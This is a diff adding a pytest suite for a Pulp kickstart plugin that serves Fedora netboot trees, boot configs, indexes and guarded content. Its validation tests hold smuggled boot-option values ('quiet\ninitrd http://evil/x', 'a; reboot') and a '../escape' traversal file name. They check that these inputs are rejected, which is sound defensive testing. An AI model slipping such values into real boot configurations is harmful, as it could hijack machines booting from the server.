@@ -1,0 +1,262 @@
+"""Serving synced trees: files, .treeinfo, boot configs, menu, index, HEAD/Range, guards."""
+
+import base64
+import hashlib
+import io
+
+import productmd.treeinfo
+import pytest
+import requests
+
+from tests.support import fedora
+from tests.support.pulp import CONTENT, unique
+
+from .conftest import latest
+
+
+@pytest.fixture
+def served(api, upstream, make_remote, repository, publish_release, cleanup):
+    """Releases 41 (amd64) and 42 (amd64, arm64, with boot.iso) synced and distributed."""
+    published = {
+        "41": publish_release(upstream, "41", archs=("amd64",)),
+        "42": publish_release(upstream, "42", with_iso=True),
+    }
+    remote = make_remote(upstream)
+    api.sync(repository, remote)
+    base_path = unique("fedora")
+    distribution = api.create(
+        "distributions/kickstart/kickstart/",
+        {
+            "name": base_path,
+            "base_path": base_path,
+            "repository": repository["pulp_href"],
+            "kernel_args": "console=ttyS0 inst.text",
+            "kickstart_url": "http://ks.example/fedora.cfg",
+        },
+    )
+    cleanup(distribution["pulp_href"])
+    return {
+        "base": f"{CONTENT}/pulp/content/{base_path}",
+        "base_path": base_path,
+        "distribution": distribution,
+        "published": published,
+        "remote": remote,
+        "repository": repository,
+        "upstream": upstream,
+    }
+
+
+def _get(url, **headers):
+    response = requests.get(url, headers=headers, timeout=60)
+    assert response.status_code == 200, f"{url}: {response.status_code}"
+    return response
+
+
+def test_every_file_is_served_byte_identical(api, served):
+    for release, published in served["published"].items():
+        for oci_arch, files in published["files"].items():
+            arch = {"amd64": "x86_64", "arm64": "aarch64"}[oci_arch]
+            (tree,) = [
+                t
+                for t in api.trees(latest(api, served["repository"]))
+                if (t["version"], t["arch"]) == (release, arch)
+            ]
+            upstream = dict(files)
+            for item in tree["files"]:
+                body = _get(f"{served['base']}/{release}/{arch}/{item['path']}").content
+                assert hashlib.sha256(body).hexdigest() == item["sha256"]
+                assert body == upstream[item["name"]]
+
+
+def test_treeinfo_loads_with_productmd_and_its_checksums_match(served):
+    root = f"{served['base']}/42/x86_64/"
+    info = productmd.treeinfo.TreeInfo()
+    info.loads(_get(root + ".treeinfo").text)
+
+    assert info.release.version == "42"
+    assert info.release.name == "Fedora"
+    assert info.tree.arch == "x86_64"
+    assert info.stage2.mainimage == "images/install.img"
+    assert info.images.images["x86_64"] == {
+        "kernel": "images/pxeboot/vmlinuz",
+        "initrd": "images/pxeboot/initrd.img",
+        "boot.iso": "images/boot.iso",
+    }
+    assert set(info.checksums.checksums) == {
+        "images/pxeboot/vmlinuz",
+        "images/pxeboot/initrd.img",
+        "images/install.img",
+        "images/boot.iso",
+    }
+    for path, (algorithm, digest) in info.checksums.checksums.items():
+        assert algorithm == "sha256"
+        assert hashlib.sha256(_get(root + path).content).hexdigest() == digest
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1:24816", "localhost:24816", "pulp.example:8080"])
+def test_boot_configs_use_the_clients_host_and_the_distribution_args(served, host):
+    tree = f"http://{host}/pulp/content/{served['base_path']}/42/x86_64/"
+    args = f"inst.stage2={tree} console=ttyS0 inst.text inst.ks=http://ks.example/fedora.cfg"
+    url = f"{served['base']}/42/x86_64/"
+
+    ipxe = _get(url + "boot.ipxe", Host=host).text
+    assert ipxe.startswith("#!ipxe\n")
+    assert f"kernel {tree}images/pxeboot/vmlinuz initrd=initrd.img {args}\n" in ipxe
+    assert f"initrd {tree}images/pxeboot/initrd.img\n" in ipxe
+    assert ipxe.rstrip().endswith("boot")
+
+    grub = _get(url + "grub.cfg", Host=host).text
+    grub_root = f"(http,{host})/pulp/content/{served['base_path']}/42/x86_64/"
+    assert f"  linux {grub_root}images/pxeboot/vmlinuz {args}\n" in grub
+    assert f"  initrd {grub_root}images/pxeboot/initrd.img\n" in grub
+
+    pxelinux = _get(url + "pxelinux.cfg/default", Host=host).text
+    assert f"  KERNEL {tree}images/pxeboot/vmlinuz\n" in pxelinux
+    assert f"  APPEND initrd={tree}images/pxeboot/initrd.img {args}\n" in pxelinux
+
+
+def test_forwarded_headers_from_a_reverse_proxy_are_honoured(served):
+    ipxe = _get(
+        f"{served['base']}/42/x86_64/boot.ipxe",
+        **{"X-Forwarded-Proto": "https", "X-Forwarded-Host": "pulp.example"},
+    ).text
+    assert f"https://pulp.example/pulp/content/{served['base_path']}/42/x86_64/" in ipxe
+
+
+def test_menu_and_index_list_every_tree(served):
+    expected = {("41", "x86_64"), ("42", "x86_64"), ("42", "aarch64")}
+    menu = _get(f"{served['base']}/boot.ipxe").text
+    for release, arch in expected:
+        assert f"item {release}-{arch} Install {release} {arch}\n" in menu
+        assert f"chain {served['base']}/{release}/{arch}/boot.ipxe\n" in menu
+
+    index = _get(f"{served['base']}/trees.json").json()
+    assert index["base_url"] == f"{served['base']}/"
+    assert {(t["version"], t["arch"]) for t in index["trees"]} == expected
+    tree = next(t for t in index["trees"] if (t["version"], t["arch"]) == ("42", "x86_64"))
+    assert tree["boot"]["ipxe"] == f"{served['base']}/42/x86_64/boot.ipxe"
+    kernel = next(f for f in tree["files"] if f["role"] == "kernel")
+    body = _get(kernel["url"]).content
+    assert len(body) == kernel["size"] and hashlib.sha256(body).hexdigest() == kernel["sha256"]
+
+
+def test_listings_show_generated_files(served):
+    root = _get(f"{served['base']}/").text
+    assert 'href="./boot.ipxe"' in root and 'href="./trees.json"' in root and 'href="./42/"' in root
+    tree = _get(f"{served['base']}/42/x86_64/").text
+    for name in (".treeinfo", "boot.ipxe", "grub.cfg", "pxelinux.cfg/", "images/", "EFI/"):
+        assert f'href="./{name}"' in tree, name
+    assert 'href="./default"' in _get(f"{served['base']}/42/x86_64/pxelinux.cfg/").text
+
+
+@pytest.mark.parametrize(
+    "path", ["images/pxeboot/vmlinuz", "images/install.img", "boot.ipxe", ".treeinfo"]
+)
+def test_head_and_range_work_on_files_and_generated_documents(served, path):
+    url = f"{served['base']}/42/x86_64/{path}"
+    whole = _get(url).content
+
+    head = requests.head(url, timeout=60)
+    assert head.status_code == 200
+    assert int(head.headers["Content-Length"]) == len(whole)
+    assert head.content == b""
+
+    part = requests.get(url, headers={"Range": "bytes=10-19"}, timeout=60)
+    assert part.status_code == 206
+    assert part.content == whole[10:20]
+    assert part.headers["Content-Range"] == f"bytes 10-19/{len(whole)}"
+
+    tail = requests.get(url, headers={"Range": "bytes=-7"}, timeout=60)
+    assert tail.status_code == 206 and tail.content == whole[-7:]
+
+    beyond = requests.get(url, headers={"Range": f"bytes={len(whole) + 5}-"}, timeout=60)
+    assert beyond.status_code == 416
+
+
+def test_foreman_medium_path_resolves(served):
+    # Foreman medium: http://HOST/pulp/content/<base_path>/$major/$arch/
+    medium = f"{served['base']}/{{major}}/{{arch}}/".format(major="42", arch="x86_64")
+    assert _get(medium + "images/pxeboot/vmlinuz").content
+    assert _get(medium + "images/pxeboot/initrd.img").content
+    assert "mainimage = images/install.img" in _get(medium + ".treeinfo").text
+
+
+def test_a_new_release_appears_without_other_calls_and_a_failed_sync_changes_nothing(
+    api, served, publish_release
+):
+    publish_release(served["upstream"], "43", archs=("amd64",))
+    api.sync(served["repository"], served["remote"])
+    assert _get(f"{served['base']}/43/x86_64/boot.ipxe").text.startswith("#!ipxe")
+    assert "43-x86_64" in _get(f"{served['base']}/boot.ipxe").text
+    before = _get(f"{served['base']}/trees.json").json()
+
+    served["upstream"].netboot("44-amd64", [("vmlinuz", fedora.kernel("44")), ("../escape", b"no")])
+    task = api.sync(served["repository"], served["remote"], raise_on_failure=False)
+
+    assert task["state"] == "failed"
+    assert _get(f"{served['base']}/trees.json").json() == before
+    assert requests.get(f"{served['base']}/44/x86_64/boot.ipxe", timeout=60).status_code == 404
+
+
+def test_a_fixed_repository_version_keeps_serving_what_it_had(
+    api, served, cleanup, publish_release
+):
+    version = latest(api, served["repository"])
+    base_path = unique("pinned")
+    pinned = api.create(
+        "distributions/kickstart/kickstart/",
+        {"name": base_path, "base_path": base_path, "repository_version": version},
+    )
+    cleanup(pinned["pulp_href"])
+    publish_release(served["upstream"], "43", archs=("amd64",))
+    api.sync(served["repository"], served["remote"])
+
+    pinned_index = _get(f"{CONTENT}/pulp/content/{base_path}/trees.json").json()
+    assert "43" not in {t["version"] for t in pinned_index["trees"]}
+    live_index = _get(f"{served['base']}/trees.json").json()
+    assert "43" in {t["version"] for t in live_index["trees"]}
+
+
+def test_a_guarded_distribution_refuses_anonymous_clients(api, served, cleanup):
+    secret = unique("token")
+    guard = api.create(
+        "contentguards/core/header/",
+        {"name": unique("guard"), "header_name": "X-Boot-Token", "header_value": secret},
+    )
+    cleanup(guard["pulp_href"])
+    api.patch(served["distribution"]["pulp_href"], {"content_guard": guard["pulp_href"]})
+
+    for path in ("42/x86_64/images/pxeboot/vmlinuz", "42/x86_64/boot.ipxe", "trees.json"):
+        url = f"{served['base']}/{path}"
+        assert requests.get(url, timeout=60).status_code == 403, path
+        # The header guard compares the base64-decoded header with its value.
+        token = base64.b64encode(secret.encode()).decode()
+        assert requests.get(url, headers={"X-Boot-Token": token}, timeout=60).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"kernel_args": "quiet\ninitrd http://evil/x"},
+        {"kernel_args": "a; reboot"},
+        {"kickstart_url": "not a url"},
+        {"kickstart_url": "http://ks.example/a b.cfg"},
+    ],
+)
+def test_boot_options_that_could_break_a_config_are_refused(api, repository, fields):
+    body = {
+        "name": unique("dist"),
+        "base_path": unique("dist"),
+        "repository": repository["pulp_href"],
+        **fields,
+    }
+    response = api.request("POST", "distributions/kickstart/kickstart/", expect=(400,), json=body)
+    assert set(fields) <= set(response.json())
+
+
+def test_treeinfo_renders_from_the_io_of_a_string(served):
+    # The same document parses from a file object, as pulp_rpm and Anaconda read it.
+    text = _get(f"{served['base']}/41/x86_64/.treeinfo").text
+    info = productmd.treeinfo.TreeInfo()
+    info.load(io.StringIO(text))
+    assert info.release.version == "41"
